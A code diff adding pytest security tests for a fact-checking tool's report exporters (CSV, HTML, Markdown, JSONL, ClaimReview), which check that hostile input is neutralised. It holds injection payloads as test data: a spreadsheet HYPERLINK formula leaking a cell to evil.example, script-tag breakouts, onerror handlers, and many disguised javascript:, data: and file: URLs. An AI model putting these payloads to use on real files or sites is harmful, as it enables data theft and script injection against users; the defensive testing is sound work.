@@ -21,8 +21,9 @@ from workbench import verdicts
 from workbench.cli import app
 from workbench.errors import ExitCode
 from workbench.extract.claimant import guess_claimant
-from workbench.report import ReportOptions, render
+from workbench.report import FLOAT_DECIMALS, ReportOptions, render, safe_url
 from workbench.report.claimreview import short_claim
+from workbench.report.csv_report import csv_cell
 from workbench.settings import load_settings
 from workbench.workspace import Workspace
 
@@ -411,3 +412,302 @@ def test_render_is_pure() -> None:
     }  # fmt: skip
     for fmt in ("claimreview", "csv", "markdown", "html"):
         assert render(fmt, [row], ReportOptions()) == render(fmt, [row], ReportOptions())
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile data: evidence, claims, notes and reviewer names that try to run code wherever the
+# export is opened (spreadsheet formulas, </script>, javascript: and data: links, Markdown links).
+
+HOSTILE_EVIDENCE = FIXTURES / "hostile-evidence.jsonl"
+HOSTILE_CLAIMS = FIXTURES / "hostile-claims.jsonl"
+SAFE_URLS = {"https://example.org/impots?a=1&b=2", "/archives/impots-2024.html"}
+# The fixture's evidence has 7 unsafe `url`s and one unsafe `image_url` (an extra field); every
+# passage is matched to every claim, so each export's data holds all 8.
+UNSAFE_URLS = 8
+HOSTILE_NOTE = (
+    '=HYPERLINK("https://evil.example/?x="&A1,"ok") </script><script>alert(1)</script> '
+    "[lien](javascript:alert(2)) <img src=x onerror=alert(3)>"
+)
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d")
+
+
+def _cli(*args: str):
+    result = runner.invoke(app, list(args))
+    assert result.exit_code == 0, result.output
+    return result
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A workspace built through the CLI from the hostile fixtures: three claims reviewed,
+    each citing three hostile or safe passages, with a hostile note and reviewer names."""
+    root = tmp_path_factory.mktemp("hostile") / "ws"
+    ws = ("--workspace", str(root))
+    _cli("ingest", str(HOSTILE_EVIDENCE), "--model", "hash:64", *ws)
+    matched = _cli("match", str(HOSTILE_CLAIMS), "--top-k", "9", *ws).stdout
+    records = [json.loads(line) for line in matched.splitlines() if line.strip()]
+    assert len(records) == 4 and all(len(r["matches"]) == 9 for r in records)
+    passage = {m["evidence_id"]: m["passage_id"] for m in records[0]["matches"]}
+    ids = [str(r["claim_id"]) for r in records]
+
+    def cite(*names: str) -> list[str]:
+        return [arg for name in names for arg in ("--cite", str(passage[name]))]
+
+    _cli("verdict", ids[0], "false", "--note", HOSTILE_NOTE, "--reviewer", "@ana", *ws,
+         *cite("formula-title", "markdown-links", "control-chars"))  # fmt: skip
+    _cli("verdict", ids[1], "mostly-false", "--note", "+1 -1", "--reviewer", "-ana", *ws,
+         *cite("script-text", "entity-url", "vbscript-url"))  # fmt: skip
+    _cli("verdict", ids[2], "true", "--reviewer", "=ana", *ws,
+         *cite("file-url", "safe-url", "relative-url"))  # fmt: skip
+    return root
+
+
+def _hostile_export(root: Path, fmt: str, *args: str) -> tuple[str, str]:
+    result = _export(root, "--format", fmt, *args)
+    assert result.exit_code == 0, result.output
+    notes = [line for line in result.stderr.splitlines() if "left out" in line]
+    # One line per export, however many cells held an unsafe URL.
+    assert notes == [
+        f"workbench: left out {UNSAFE_URLS} URLs that are not a safe web link "
+        "(only http, https and relative URLs are exported)"
+    ]
+    return result.stdout_bytes.decode("utf-8"), result.stderr
+
+
+def _url_values(value: object, key: str = "") -> list[str]:
+    """Every string under a URL-like key ("url", "image_url", ...) in parsed JSON."""
+    if isinstance(value, dict):
+        return [u for k, v in value.items() for u in _url_values(v, k)]
+    if isinstance(value, list):
+        return [u for v in value for u in _url_values(v, key)]
+    return [value] if isinstance(value, str) and key.split("_")[-1] in ("url", "link") else []
+
+
+def test_hostile_csv_has_no_cell_a_spreadsheet_would_run(hostile: Path) -> None:
+    text, _ = _hostile_export(hostile, "csv", "--status", "all")
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    header, body = rows[0], rows[1:]
+    assert len(body) == 4
+    cells = [cell for row in body for cell in row]
+    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) or c.lstrip().startswith("=")]
+    assert live == []
+    by_name = [dict(zip(header, row, strict=True)) for row in body]
+    # The neutralised cells keep their text after the apostrophe: claim, article, note, names.
+    first = by_name[0]
+    assert first["claim"].startswith("'=HYPERLINK(") and first["article"].startswith("'=")
+    assert first["note"] == "'" + HOSTILE_NOTE and first["reviewer"] == "'@ana"
+    assert first["evidence_title"].startswith("'=HYPERLINK(") and first["evidence_text"][1] == "="
+    assert by_name[1]["claim"].startswith("'-5 %") and by_name[1]["note"] == "'+1 -1"
+    assert by_name[2]["reviewer"] == "'=ana"
+    assert sum(c.startswith("'") for c in cells) >= 20
+    assert {r["evidence_url"] for r in by_name} <= {"", *SAFE_URLS}
+    # Numbers the workbench writes stay numbers (unquoted); every text cell is quoted, so a
+    # spreadsheet splitting on ';' cannot start a formula cell in the middle of one.
+    lines = text.removeprefix("\ufeff").split("\r\n")
+    assert lines[1].startswith("1,\"'=HYPERLINK(") and ',"False","false",1,"' in lines[1]
+
+
+def test_hostile_claimreview_is_safe_inside_a_script_element(hostile: Path) -> None:
+    from html.parser import HTMLParser
+
+    text, _ = _hostile_export(hostile, "claimreview")
+    assert not set("<>&\u2028\u2029") & set(text)
+    reviews = json.loads(text)
+    assert len(reviews) == 3
+    assert "</script><script>" in reviews[1]["claimReviewed"]  # the text itself is kept
+
+    class Scripts(HTMLParser):
+        def __init__(self) -> None:
+            super().__init__()
+            self.tags: list[str] = []
+            self.data: list[str] = []
+
+        def handle_starttag(self, tag: str, attrs: list) -> None:
+            self.tags.append(tag)
+
+        def handle_data(self, data: str) -> None:
+            self.data.append(data)
+
+    page = Scripts()
+    page.feed(f'<html><head><script type="application/ld+json">{text}</script></head></html>')
+    assert page.tags == ["html", "head", "script"]  # nothing broke out of the element
+    assert json.loads("".join(page.data)) == reviews
+    urls = _url_values(reviews)
+    assert all(u.startswith("https://") for u in urls)
+
+
+def test_claimreview_refuses_unsafe_or_broken_publish_urls(hostile: Path) -> None:
+    (hostile / "config.toml").write_text(
+        '[publish]\nurl = "javascript:alert(1)"\nreview_url = " JAVASCRIPT:alert(2)//{claim_id}"\n',
+        encoding="utf-8",
+    )
+    try:
+        result = _export(hostile, "--format", "claimreview")
+        assert result.exit_code == 0, result.output
+        assert f"left out {UNSAFE_URLS + 2} URLs" in result.stderr
+        reviews = json.loads(result.stdout)
+        assert all("url" not in r and "url" not in r["author"] for r in reviews)
+        (hostile / "config.toml").write_text(
+            '[publish]\nreview_url = "https://example.org/{id}"\n', encoding="utf-8"
+        )
+        result = _export(hostile, "--format", "claimreview")
+        assert result.exit_code == ExitCode.BAD_INPUT and "Traceback" not in result.output
+        assert "review_url 'https://example.org/{id}' is not a template" in result.stderr
+    finally:
+        (hostile / "config.toml").unlink()
+
+
+class _Tags:
+    """The tags and attributes of an HTML text, as a browser's tokenizer reads them."""
+
+    def __init__(self, text: str) -> None:
+        from html.parser import HTMLParser
+
+        self.tags: list[str] = []
+        self.attrs: list[tuple[str, str | None]] = []
+        outer = self
+
+        class Parser(HTMLParser):
+            def handle_starttag(self, tag: str, attrs: list) -> None:
+                outer.tags.append(tag)
+                outer.attrs += [(name.lower(), value) for name, value in attrs]
+
+        Parser().feed(text)
+
+    def hrefs(self) -> list[str]:
+        return [value or "" for name, value in self.attrs if name in ("href", "src")]
+
+
+def test_hostile_markdown_renders_nothing_live(hostile: Path) -> None:
+    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
+    pytest.importorskip("linkify_it", reason="linkify-it-py is not installed")
+    text, _ = _hostile_export(hostile, "markdown")
+    # GFM-like: raw HTML allowed, bare URLs linkified, as a lenient publishing site would be.
+    rendered = markdown_it.MarkdownIt("gfm-like").render(text)
+    tags = _Tags(rendered)
+    assert set(tags.tags) <= {"h1", "h2", "h3", "p", "blockquote", "table", "thead", "tbody",
+                              "tr", "th", "td", "strong", "em", "a"}  # fmt: skip
+    assert not [name for name, _ in tags.attrs if name.startswith("on")]
+    # The only links are the two safe evidence URLs, in their citations.
+    assert sorted(tags.hrefs()) == sorted(
+        ["https://example.org/impots?a=1&b=2", "/archives/impots-2024.html"]
+    )
+    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in rendered  # shown as text
+    assert "www.evil.example et https://evil.example/phish" in rendered  # readable, not linked
+    assert "[lien](javascript:alert(2))" in rendered
+
+
+def test_hostile_html_has_no_script_handler_or_unsafe_link(hostile: Path) -> None:
+    page, _ = _hostile_export(hostile, "html")
+    tags = _Tags(page)
+    assert not {"script", "img", "iframe", "object", "embed", "svg:script"} & set(tags.tags)
+    assert not [name for name, _ in tags.attrs if name.startswith("on")]
+    assert sorted(tags.hrefs()) == sorted(SAFE_URLS)
+    assert "javascript" not in page.lower().replace("javascript:alert(", "")
+    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+def test_hostile_jsonl_keeps_only_safe_urls_and_rounded_floats(hostile: Path) -> None:
+    text, _ = _hostile_export(hostile, "jsonl")
+    records = [json.loads(line) for line in text.splitlines()]
+    assert len(records) == 4
+    urls = set(_url_values(records))
+    assert urls <= {"", *SAFE_URLS} and urls >= SAFE_URLS
+    evidence = {m["evidence_id"]: m for m in records[0]["matches"]}
+    assert evidence["control-chars"]["url"] == "" and evidence["control-chars"]["extra"] == {
+        "image_url": ""
+    }
+    # The texts are kept as they are: JSONL is data, only links are gated.
+    assert "</script><script>" in evidence["script-text"]["text"]
+    scores = [m["score"] for r in records for m in r["matches"]]
+    assert scores and all(round(s, 4) == s for s in scores)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "  JaVaScRiPt:alert(1)",
+        "\x00javascript:alert(1)", "\x01\x1fjavascript:alert(1)", "java\tscript:alert(1)",
+        "java\nscript:alert(1)", "java\rscript:alert(1)", "&#106;avascript:alert(1)",
+        "&#x6A;avascript:alert(1)", "&#106avascript:alert(1)", "javascript&colon;alert(1)",
+        "&amp;#106;avascript:alert(1)", "jav&#x09;ascript:alert(1)", "java\\script:alert(1)",
+        "java\u200bscript:alert(1)", "data:text/html,<script>alert(1)</script>",
+        "DATA:image/svg+xml;base64,PHN2Zz4=", "vbscript:msgbox(1)", "VbScript:msgbox(1)",
+        "file:///etc/passwd", "FILE://c:/windows", "\u3000javascript:alert(1)",
+        "&#38;#106;avascript:alert(1)",
+    ],
+)  # fmt: skip
+def test_safe_url_refuses_every_disguise_of_a_dangerous_scheme(url: str) -> None:
+    assert safe_url(url) == ""
+    assert safe_url(url, relative=False) == ""
+
+
+def test_safe_url_keeps_web_and_relative_links() -> None:
+    assert safe_url("https://example.org/a?b=1&c=2") == "https://example.org/a?b=1&c=2"
+    assert safe_url("  HTTP://Example.org/x\n") == "HTTP://Example.org/x"
+    assert safe_url("https://exa\tmple.org/") == "https://example.org/"
+    for relative in ("/archives/x.html", "x.html", "../x", "#top", "?q=1", "//example.org/x"):
+        assert safe_url(relative) == relative
+        assert safe_url(relative, relative=False) == ""  # ClaimReview wants absolute URLs
+    assert safe_url("") == safe_url(None) == safe_url(" \x00 ") == ""
+
+
+def test_exported_floats_are_rounded_so_the_last_bit_cannot_change_a_golden() -> None:
+    np = pytest.importorskip("numpy")
+    assert FLOAT_DECIMALS == 4
+
+    def row(score: float) -> dict:
+        return {
+            "claim_id": 1, "claim": "c", "article": "a", "lang": "en", "score": 0.55,
+            "matches": [{"score": score, "signals": {"hash:64": score, "bridge_rank": 1}}],
+        }  # fmt: skip
+
+    # The failure a fresh machine saw: the sixth decimal moved with the BLAS build.
+    assert render("jsonl", [row(0.518926)], ReportOptions()) == render(
+        "jsonl", [row(0.5189271)], ReportOptions()
+    )
+    out = json.loads(render("jsonl", [row(np.float32(0.51892614))], ReportOptions()))
+    assert out["matches"][0] == {"score": 0.5189, "signals": {"hash:64": 0.5189, "bridge_rank": 1}}
+    assert out["score"] == 0.55
+    for odd, written in ((float("nan"), None), (float("inf"), None), (-0.00001, 0.0)):
+        got = json.loads(render("jsonl", [row(odd)], ReportOptions()))["matches"][0]["score"]
+        assert got == written and str(got) != "-0.0"
+
+
+def test_csv_cells_neutralise_text_but_keep_numbers() -> None:
+    assert csv_cell(-3) == -3 and csv_cell(-0.123456) == -0.1235 and csv_cell(2) == 2
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1+1", "\0x"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("Le ministre = 5 %") == "Le ministre = 5 %" and csv_cell(None) == ""
+    buffer = io.StringIO()
+    csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC).writerow(
+        [csv_cell(-1.5), csv_cell("-1.5"), csv_cell("a;=b")]
+    )
+    assert buffer.getvalue() == '-1.5,"\'-1.5","a;=b"\r\n'
+
+
+@pytest.mark.skipif(
+    _chromium() is None,
+    reason="chromium is not installed (CI installs it: apt-get install -y chromium)",
+)
+def test_hostile_html_in_a_headless_browser_has_no_element_or_link_from_the_data(
+    hostile: Path, tmp_path: Path
+) -> None:
+    page = tmp_path / "hostile.html"
+    assert _export(hostile, "--format", "html", "-o", str(page)).exit_code == 0
+    dom = subprocess.run(
+        [
+            _chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+            "--disable-background-networking", "--disable-component-update", "--disable-sync",
+            f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri(),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+    ).stdout  # fmt: skip
+    tags = _Tags(dom)
+    assert "main" in tags.tags and not {"script", "img", "iframe", "b"} & set(tags.tags)
+    assert not [name for name, _ in tags.attrs if name.startswith("on")]
+    assert sorted(tags.hrefs()) == sorted(SAFE_URLS)
+    assert "<title>Fact-check report</title>" in dom
